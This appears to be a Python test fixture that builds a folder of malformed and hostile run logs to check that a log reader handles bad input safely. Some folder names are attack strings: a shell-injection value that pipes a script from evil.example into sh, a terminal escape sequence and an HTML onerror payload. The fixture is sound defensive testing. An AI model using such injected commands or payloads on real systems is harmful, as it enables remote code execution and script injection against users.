"""A folder of runs as an enemy, a crash or another program leaves it, and one good run in it."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import Any, Final

LOG: Final = "events.jsonl"
GOOD: Final = "good"


def line(**fields: Any) -> bytes:
    """One line of a log; a text may be given for what JSON libraries do not write."""
    head = {"v": 1, "run": "r", "seq": 0, "att": 0, "t": 100.0, "rt": 0.0, "kind": "run.start"}
    return json.dumps({**head, "step": 0, **fields}).encode() + b"\n"


def log(folder: Path, *lines: bytes) -> Path:
    """A run with these lines, older than what may still begin."""
    folder.mkdir(parents=True)
    path = folder / LOG
    path.write_bytes(b"".join(lines))
    age(path)
    return path


def age(path: Path) -> None:
    """Make it an hour old."""
    then = path.lstat().st_mtime - 3600
    os.utime(path, (then, then), follow_symlinks=False)


def good(runs: Path) -> None:
    """A finished run that nothing here may touch."""
    end = line(seq=1, kind="run.end", step=7, status="finished", t=200.0)
    log(runs / GOOD, line(model={"name": "demo"}, plan={"steps": 7}), end)


def huge_line(folder: Path, size: int, *, closed: bool = False) -> None:
    """A log whose last line is so long; `closed` ends it, and the run after it."""
    path = log(folder, line())
    with path.open("r+b") as file:
        file.truncate(size)  # sparse: NUL after NUL, which costs the disk nothing
        if closed:
            file.seek(size)
            file.write(b"\n" + line(seq=1, kind="run.end", status="finished"))
    age(path)


def raw(template: bytes) -> Callable[[Path], object]:
    """A log of one line in which a field of `line` is replaced by `template`'s."""
    return lambda folder: log(folder, template + b"\n")


def _number(name: str, text: str) -> Callable[[Path], object]:
    whole = line().decode().strip()
    fields = json.loads(whole)
    start = json.dumps({key: value for key, value in fields.items() if key != name})
    return raw(f'{start[:-1]}, "{name}": {text}}}'.encode())


def _linked_log(folder: Path) -> None:
    folder.mkdir()
    (folder / LOG).symlink_to(folder.parent / GOOD / LOG)


def _fifo(folder: Path) -> None:
    folder.mkdir()
    os.mkfifo(folder / LOG)


def _directory(folder: Path) -> None:
    (folder / LOG).mkdir(parents=True)


def _only_config(folder: Path) -> None:
    folder.mkdir()
    (folder / "config.json").write_text("{}")
    age(folder)


FAULTS: Final[dict[str, tuple[Callable[[Path], object], str]]] = {
    "t is NaN": (_number("t", "NaN"), "not JSON"),
    "t is infinite": (_number("t", "1e999"), "t is"),
    "t is huge": (_number("t", "1e300"), "t is"),
    "t is a number of 5000 digits": (_number("t", "9" * 5000), "t is"),
    "t is text": (_number("t", '"noon"'), "t is"),
    "seq is 400 digits": (_number("seq", "9" * 400), "seq is"),
    "step is huge": (_number("step", "1e18"), "step is"),
    "plan is infinite": (_number("plan", '{"steps": 1e999}'), "plan.steps is"),
    "half a pair in its name": (_number("run", r'"\ud800"'), "run is"),
    "half a pair in its model": (_number("model", r'{"name": "\udfff"}'), "model.name is"),
    "a promise without end": (
        lambda folder: log(folder, line(kind="beat", expect_next_in=1e300)),
        "expect_next_in is",
    ),
    "a status nobody knows": (
        lambda folder: log(folder, line(kind="run.end", status="\x1b[31mconstructor")),
        "status is",
    ),
    "nested 100000 deep": (raw(b'{"run":' + b"[" * 60_000), "nested"),
    "no JSON": (raw(b"\x00\xff\xfe not a log"), "not UTF-8"),
    "UTF-16": (lambda folder: log(folder, line().decode().encode("utf-16")), "not UTF-8"),
    "half a line": (lambda folder: log(folder, line()[:40]), "no whole event"),
    "empty": (lambda folder: log(folder), "no whole event"),
    "a line of 1 GB": (lambda folder: huge_line(folder, 2**30), "a line of more than"),
    "a long line alone": (lambda folder: log(folder, b"a" * 300_000), "a line of more than"),
    "a linked log": (_linked_log, "it is a link, not a file"),
    "a pipe": (_fifo, "it is a pipe, not a file"),
    "a folder": (_directory, "it is a folder, not a file"),
    "only a config": (_only_config, "has no events.jsonl"),
}
"""What lies in a folder of runs, by the name of its folder, and a part of what is said about it."""

LISTED: Final[dict[str, Callable[[Path], object]]] = {
    "200 MB in one line": lambda folder: huge_line(folder, 200 * 2**20, closed=True),
    "\x1b]0;owned\x07": lambda folder: log(folder, line()),
    "; curl evil.example | sh #": lambda folder: log(folder, line()),
    "<img src=x onerror=alert(1)>": lambda folder: log(folder, line(model={"name": "<b>"})),
    "a million empty lines": lambda folder: log(folder, line(), b"\n" * 1_000_000, line(seq=1)),
}
"""What can be read, whatever it looks like."""


def fill(runs: Path) -> None:
    """All of it, and what is no run at all."""
    good(runs)
    for name, (make, _) in FAULTS.items():
        make(runs / name)
    for name, make in LISTED.items():
        make(runs / name)
    log(runs.parent / "outside", line())
    (runs / "a linked folder").symlink_to(runs.parent / "outside", target_is_directory=True)
    log(Path(os.fsdecode(os.fsencode(runs) + b"/caf\xe9")), line())
    (runs / "no run").mkdir()
    (runs / "a file").write_text("x")
    os.mkfifo(runs / "a pipe beside them")
